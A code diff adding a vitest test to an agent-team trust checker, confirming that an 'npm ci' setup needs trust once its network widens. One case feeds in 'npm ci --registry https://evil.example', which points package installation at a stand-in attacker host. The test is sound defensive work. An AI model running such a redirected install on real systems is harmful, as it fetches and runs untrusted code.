@@ -1,6 +1,7 @@
 import { expect, test } from "vitest";
 import { defineTeam, persona, phase } from "../../../src/team/define.ts";
 import { demandsOf, demandsTrust } from "../../../src/team/demands.ts";
+import { findSetups } from "../../../src/team/find-setup.ts";
 import { definitionOf, fileTeam, works } from "./written-team.ts";
 
 const teamOf = (personas: Readonly<Record<string, unknown>>, more = {}) =>
@@ -206,6 +207,17 @@ test("a program by a path outside the system needs trust, because the package be
   ]);
   const system = teamOf({ agent: { command: ["/usr/bin/tool"], network: false } });
   expect(demandsTrust(system, "required")).toEqual([]);
+});
+
+test("a setup that a lockfile would ask for needs no trust, unless it reaches more", () => {
+  const setup = { run: ["npm", "ci"], inputs: ["package-lock.json"], keep: ["node_modules"] };
+  const needed = (network: boolean | readonly string[], run = setup.run) =>
+    demandsTrust(teamOf({ dev: works() }, { setup: { ...setup, run, network } }), "required").length;
+  const [own = []] = findSetups(new Map([["package-lock.json", null]])).map(({ network }) => network);
+  expect(needed(own)).toBe(0);
+  expect(needed(true)).toBe(1);
+  expect(needed([...(own as readonly string[]), "evil.example"])).toBe(1);
+  expect(needed(own, ["npm", "ci", "--registry", "https://evil.example"])).toBe(1);
 });
 
 test("a setup that the team wrote needs trust for any network and any variable", () => {
